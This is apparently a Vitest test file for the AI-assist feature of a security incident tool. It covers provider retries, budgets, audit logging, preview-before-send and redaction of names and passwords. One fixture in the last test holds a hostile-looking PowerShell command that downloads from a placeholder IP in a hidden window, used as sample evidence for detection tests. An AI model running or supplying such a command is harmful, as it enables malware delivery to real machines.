import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { USUAL_SETTINGS } from '../../src/app/assist/settings.ts';
import type { AssistView } from '../../src/model/api.ts';
import { Browser, send } from '../server/harness.ts';
import {
  type Answering,
  answered,
  failed,
  foreign,
  HOSTED,
  honest,
  honestSelection,
  LOCAL,
  lying,
  packetIn,
  prose,
  silent,
} from './models.ts';
import { type AssistWorld, startAssistWorld } from './world.ts';

const SECOND = { ...LOCAL, name: 'second' };

describe('asking a model', () => {
  let world: AssistWorld;
  beforeAll(async () => {
    world = await startAssistWorld({ providers: [LOCAL, SECOND], tuning: { deadlineMs: 1_500 } });
  });
  afterAll(() => world.server.close());
  afterEach(async () => {
    world.answer(honest);
    world.calls();
    for (const { name } of [LOCAL, SECOND]) world.assist().gateway.breakers.answered(name);
    await world.settle(USUAL_SETTINGS);
  });
  const one = async () => (await world.incidents(1))[0] ?? 'inc_none';
  const view = async (id: string): Promise<AssistView> =>
    (await world.admin.get(`/api/v1/incidents/${id}/assist`)).body;
  const ask = (id: `inc_${string}`) => world.assist().ask(id, 'usr_test');

  test('reading asks nobody; asking is a person’s, and what is shown stands in a record and in the log', async () => {
    const id = await one();
    expect((await view(id)).state).toBe('not_asked');
    expect(world.calls()).toEqual([]);
    const asked = await world.admin.post(`/api/v1/incidents/${id}/assist`, {});
    expect(asked.status).toBe(202);
    await expect.poll(() => view(id)).toMatchObject({ state: 'done', provider: 'local', assist: { level: 'L1' } });
    const { assist } = (await view(id)) as Extract<AssistView, { state: 'done' }>;
    const record = (await world.admin.get(`/api/v1/ai/records/${assist.record}`)).body;
    expect(record).toMatchObject({
      record: { task: 'select', incident: id, provider: 'local', outcome: { kind: 'used' }, attempts: 1 },
      shown: { level: 'L1' },
      replay: { isIdentical: true },
    });
    await expect
      .poll(async () => (await world.admin.get('/api/v1/log/entries?type=ai.called')).body.rows[0]?.says)
      .toMatch(/^Ada Administrator asked local about inc_/);
    expect(record.packet).toBe(world.calls()[0]?.packet);
  });

  test('an answer stands after a restart, and nobody is asked for it again', async () => {
    const id = await one();
    await ask(id);
    const before = await view(id);
    expect(before.state).toBe('done');
    await world.server.restart();
    expect(await view(id)).toEqual(before);
    expect(world.calls()).toHaveLength(1);
  });

  test('a question that is asked again while it runs leaves once', async () => {
    const id = await one();
    await Promise.all([ask(id), ask(id), ask(id)]);
    expect(world.calls()).toHaveLength(1);
  });

  test('the very same question is answered from what was answered before, at no cost, as a record of its own', async () => {
    const id = await one();
    const first = await ask(id);
    const second = await ask(id);
    expect(world.calls()).toHaveLength(1);
    expect(second?.record).not.toBe(first?.record);
    const { record } = (await world.admin.get(`/api/v1/ai/records/${second?.record}`)).body;
    expect(record).toMatchObject({ isCached: true, costMicros: 0, attempts: 0, outcome: { kind: 'used' } });
  });

  test('another version of the incident is another question', async () => {
    const id = await one();
    await ask(id);
    await world.rows(`UPDATE incident SET updated_at = updated_at + interval '1 second' WHERE id = '${id}'`);
    expect((await view(id)).state).toBe('not_asked');
  });

  test.each([
    ['rate_limited', 3],
    ['failed', 3],
    ['unreachable', 3],
    ['denied', 1],
    ['too_large', 1],
  ] as const)('a provider that answers %s is asked %i times, then the next one is', async (code, times) => {
    const id = await one();
    world.answer(call => (call.provider === 'local' ? failed(call, code) : honest(call)));
    const outcome = await ask(id);
    expect(world.calls().filter(call => call.provider === 'local')).toHaveLength(times);
    expect(outcome).toMatchObject({ provider: 'second', without: undefined, shown: { level: 'L1' } });
    expect((await world.admin.get(`/api/v1/ai/records?incident=${id}`)).body.rows).toHaveLength(2);
  });

  test('a retry waits as long as the provider asks, and is not made where that is beyond the deadline', async () => {
    const id = await one();
    world.answer(call => failed(call, 'rate_limited', 60_000));
    const began = performance.now();
    expect(await ask(id)).toMatchObject({ without: 'ai.rate_limited' });
    expect(performance.now() - began).toBeLessThan(1_000);
    expect(world.calls()).toHaveLength(2);
  });

  test('a rejected answer is asked for once more with reason codes and none of its words, and never retried', async () => {
    const id = await one();
    world.answer(prose);
    expect(await ask(id)).toMatchObject({ without: 'ai.rejected', shown: { level: 'L0' } });
    const calls = world.calls();
    expect(calls.map(call => call.provider)).toEqual(['local', 'local', 'second', 'second']);
    expect(calls[1]?.system).toContain('parse.not_json');
    expect(calls[1]?.system).not.toContain('closed');
  });

  test('the repeated question can be answered', async () => {
    const id = await one();
    world.answer(call => (call.system.includes('refused') ? honest(call) : foreign(call)));
    expect(await ask(id)).toMatchObject({ without: undefined, shown: { level: 'L1' } });
    const { rows } = (await world.admin.get(`/api/v1/ai/records?incident=${id}`)).body;
    expect(rows.map((row: { outcome: object }) => row.outcome)).toEqual([
      { kind: 'used' },
      { kind: 'not_used', because: 'ai.rejected' },
    ]);
  });

  test('what is wrong of an answer is dropped, counted and shown, and the rest stands', async () => {
    const id = await one();
    world.answer(lying);
    const outcome = await ask(id);
    expect(outcome?.shown.level).toBe('L1');
    expect(outcome?.shown.dropped.length).toBeGreaterThan(0);
    expect(outcome?.shown.verified).toBeGreaterThan(0);
  });

  test('a model that abstains is not followed by another one', async () => {
    const id = await one();
    world.answer(call => answered(call, JSON.stringify({ ...honestSelection(packetIn(call)), abstain: 'too_little' })));
    expect(await ask(id)).toMatchObject({ without: 'ai.abstained', shown: { level: 'L0' } });
    expect(world.calls()).toHaveLength(1);
  });

  test('a provider that fails three times is left alone, and asked once when it has rested', async () => {
    await world.settle({ chain: ['local'] });
    world.answer(call => failed(call, 'denied'));
    for (const id of await world.incidents(3)) await ask(id);
    world.calls();
    expect(await ask(await one())).toMatchObject({ without: 'ai.resting' });
    expect(world.calls()).toEqual([]);
    expect((await world.admin.get('/api/v1/ai')).body.providers[0]).toMatchObject({
      without: 'ai.resting',
      breaker: { state: 'open', failures: 3, lastFailure: 'ai.denied' },
    });
  });

  test('whoever never answers costs no more than the deadline', async () => {
    const id = await one();
    world.answer(silent);
    const began = performance.now();
    expect(await ask(id)).toMatchObject({ without: 'ai.timed_out' });
    expect(performance.now() - began).toBeLessThan(1_500 + 2_000);
  });

  test('a budget stops before it is passed, for the incident, the hour and the day, and a restart forgets nothing', async () => {
    const id = await one();
    await ask(id);
    for (const name of ['incident', 'hour', 'day'] as const) {
      await world.settle({
        budgets: { ...USUAL_SETTINGS.budgets, [name]: { tokens: 5_000, costMicros: 1_000_000_000 } },
      });
      await world.rows(`DELETE FROM ai_cache`);
      world.calls();
      expect(await ask(id), name).toMatchObject({ without: 'ai.over_budget', record: undefined });
      expect(world.calls()).toEqual([]);
    }
    const before = (await world.admin.get('/api/v1/ai')).body.budgets;
    await world.server.restart();
    expect((await world.admin.get('/api/v1/ai')).body.budgets).toEqual(before);
    expect(await world.assist().ask(id, 'usr_test')).toMatchObject({ without: 'ai.over_budget' });
  });

  test('a call that cannot be written down is not made, and an answer that cannot be is not shown', async () => {
    const id = await one();
    await world.rows('ALTER TABLE ai_asking ADD CONSTRAINT is_full CHECK (false) NOT VALID');
    expect(await ask(id)).toMatchObject({ without: 'ai.not_recorded', shown: { level: 'L0' } });
    expect(world.calls()).toEqual([]);
    await world.rows(
      'ALTER TABLE ai_asking DROP CONSTRAINT is_full; ALTER TABLE audit_pending ADD CONSTRAINT is_full CHECK (false) NOT VALID',
    );
    expect(await ask(id)).toMatchObject({ without: 'ai.not_recorded', shown: { level: 'L0' } });
    expect((await view(id)).assist.level).toBe('L0');
    await world.rows('ALTER TABLE audit_pending DROP CONSTRAINT is_full');
  });

  test('a provider is set by an administrator over the ai process, in the log without any key', async () => {
    const { name, ...provider } = LOCAL;
    const put = await world.admin.put(`/api/v1/ai/providers/${name}`, { provider, sealedKey: 'c2VhbGVk' });
    // The scripted ai process takes none, and says why.
    expect(put).toMatchObject({ status: 422, body: { code: 'provider.invalid', because: 'scripted' } });
    expect((await world.admin.post('/api/v1/ai/providers/open', {})).body).toEqual({ isRunning: true, publicKey: '' });
    const newest = async () => (await world.admin.get('/api/v1/log/entries?type=ai.provider_changed')).body.rows[0];
    await expect.poll(async () => (await newest())?.says).toBe('Ada Administrator set the provider local.');
    expect((await newest()).text).not.toContain('c2VhbGVk');
    const cli = { authorization: `Bearer ${world.server.cliToken}`, 'content-type': 'application/json' };
    expect((await send(world.server, 'POST', `/api/v1/ai/providers/${name}/remove`, cli, '{}')).status).toBe(403);
  });

  test('settings are an administrator’s, and each version is in the log', async () => {
    const analyst = new Browser(world.server);
    await analyst.enrol(await world.admin.invite('Ann Analyst', ['analyst']), 'Ann Analyst');
    await analyst.signIn();
    expect((await analyst.put('/api/v1/ai/settings', USUAL_SETTINGS)).body.code).toBe('access.denied');
    expect((await world.admin.put('/api/v1/ai/settings', { ...USUAL_SETTINGS, isOn: 'yes' })).status).toBe(400);
    await world.settle({ isOn: false });
    expect(await ask(await one())).toMatchObject({ without: 'ai.off' });
    expect((await world.admin.get('/api/v1/me')).body.ai.level).toBe('L0');
    await expect
      .poll(async () => (await world.admin.get('/api/v1/log/entries?type=ai.configured')).body.rows[0]?.says)
      .toMatch(/changed how models are asked/);
  });
});

describe('a hosted provider', () => {
  let world: AssistWorld;
  beforeAll(async () => {
    world = await startAssistWorld({ providers: [HOSTED], tuning: { deadlineMs: 1_500 } });
  });
  afterAll(() => world.server.close());
  const ask = (id: `inc_${string}`) => world.assist().ask(id, 'usr_test');

  test('is sent nothing before a person has looked at the exact bytes, and then exactly those', async () => {
    const [id = 'inc_none'] = await world.incidents(1);
    expect(await ask(id)).toMatchObject({ without: 'ai.not_previewed' });
    expect(world.calls()).toEqual([]);
    expect((await world.admin.get('/api/v1/me')).body.ai).toMatchObject({ level: 'L0' });
    const preview = (await world.admin.get(`/api/v1/ai/preview?incident=${id}`)).body;
    expect(preview).toMatchObject({ provider: 'hosted', namesWithheld: true });
    expect(preview.acknowledged).toBeUndefined();
    expect(world.calls()).toEqual([]);
    const { provider, form, requestSha256 } = preview;
    const forged = await world.admin.post('/api/v1/ai/preview/acknowledge', {
      provider,
      form,
      requestSha256: '0'.repeat(64),
    });
    expect(forged.status).toBe(404);
    expect((await world.admin.post('/api/v1/ai/preview/acknowledge', { provider, form, requestSha256 })).status).toBe(
      200,
    );
    expect(await ask(id)).toMatchObject({ without: undefined });
    const [call] = world.calls();
    expect(call).toMatchObject({ system: preview.system, packet: preview.packet });
    expect(JSON.stringify(call?.schema)).toBe(preview.schema);
    await expect
      .poll(async () => (await world.admin.get('/api/v1/log/entries?type=ai.previewed')).body.rows[0]?.says)
      .toBe('Ada Administrator looked at what hosted would be sent.');
    expect((await world.admin.get('/api/v1/me')).body.ai).toMatchObject({ level: 'L1' });
  });

  test('is sent no name of anybody, and another form of packet has to be looked at again', async () => {
    const [id = 'inc_none'] = await world.incidents(1);
    await ask(id);
    const { rows } = await world.server.db.ownerPool.query<{ label: string }>(
      `SELECT e ->> 'label' AS label FROM alert, jsonb_array_elements(body -> 'entities') e WHERE incident_id = $1`,
      [id],
    );
    expect(rows.length).toBeGreaterThan(0);
    const [call] = world.calls();
    for (const { label } of rows) expect(call?.packet.toLowerCase()).not.toContain(label.toLowerCase());
    await world.settle({ namesTo: ['hosted'] });
    await world.rows('DELETE FROM ai_cache');
    expect(await ask(id)).toMatchObject({ without: 'ai.not_previewed' });
    await world.settle({ namesTo: [] });
  });

  test('is sent nothing where the residency rule does not name its region, its test question included', async () => {
    const [id = 'inc_none'] = await world.incidents(1);
    await world.settle({ residency: { kind: 'only', regions: ['eu', 'local'] } });
    expect(await ask(id)).toMatchObject({ without: 'ai.residency' });
    const tested = await world.admin.post('/api/v1/ai/providers/hosted/test', {});
    expect(tested.body).toMatchObject({ isWell: false, without: 'ai.residency' });
    expect(world.calls()).toEqual([]);
    await world.settle({ residency: { kind: 'any' } });
    expect((await world.admin.post('/api/v1/ai/providers/hosted/test', {})).body).toMatchObject({ isWell: true });
    expect(world.calls()).toHaveLength(1);
  });
});

describe('a text that somebody wants explained', () => {
  let world: AssistWorld;
  const COMMAND = 'powershell -w hidden -c "iwr http://203.0.113.9/a" -password hunter2secret';
  const marking: Answering = call => {
    const { text } = JSON.parse(call.packet);
    const start = text.indexOf('-w hidden');
    const marks = [
      { behaviour: 'hidden_window', start, end: start + 9 },
      { behaviour: 'hidden_window', start: 0, end: 4 },
    ];
    return answered(call, JSON.stringify({ marks }));
  };
  beforeAll(async () => {
    world = await startAssistWorld({ providers: [HOSTED, LOCAL], tuning: { deadlineMs: 1_500 } });
    world.answer(marking);
  });
  afterAll(() => world.server.close());

  test('goes to nobody who is sent no names, without its password, and what is marked was found again by rules', async () => {
    const [id = 'inc_none'] = await world.incidents(1);
    await world.rows(
      `UPDATE evidence SET bytes = convert_to('${JSON.stringify({ cmd: COMMAND })}', 'UTF8') WHERE id = (SELECT evidence_id FROM alert WHERE incident_id = '${id}' LIMIT 1)`,
    );
    const found = await world.rows<{ id: string }>(
      `SELECT id FROM evidence WHERE position('hunter2secret'::bytea in bytes) > 0`,
    );
    const path = `/api/v1/evidence/${found[0]?.id}/mark`;
    const view = (await world.admin.post(path, { pointer: '/cmd' })).body;
    expect(view).toMatchObject({ without: '', marks: [{ behaviour: 'hidden_window' }] });
    expect(view.dropped).toEqual([{ code: 'value.not_recomputed', pointer: '/marks/1' }]);
    expect(view.text.slice(view.marks[0].start, view.marks[0].end)).toBe('-w hidden');
    const calls = world.calls();
    expect(calls.map(call => call.provider)).toEqual(['local']);
    expect(calls[0]?.packet).not.toContain('hunter2secret');
    const record = (await world.admin.get(`/api/v1/ai/records/${view.record}`)).body;
    expect(record).toMatchObject({ record: { task: 'explain' }, replay: { isIdentical: true } });
    expect((await world.admin.post(path, { pointer: '/nothing' })).status).toBe(404);
    // A hosted one that is sent names gets it too, once somebody has seen what of it.
    await world.settle({ chain: ['hosted'], namesTo: ['hosted'] });
    const query = `evidence=${found[0]?.id}&pointer=${encodeURIComponent('/cmd')}`;
    expect((await world.admin.post(path, { pointer: '/cmd' })).body.without).toBe('ai.not_previewed');
    const preview = (await world.admin.get(`/api/v1/ai/preview?${query}`)).body;
    expect(preview.packet).not.toContain('hunter2secret');
    const { provider, form, requestSha256 } = preview;
    await world.admin.post('/api/v1/ai/preview/acknowledge', { provider, form, requestSha256 });
    expect((await world.admin.post(path, { pointer: '/cmd' })).body.without).toBe('');
    expect(world.calls().map(call => call.packet)).toEqual([preview.packet]);
  });
});
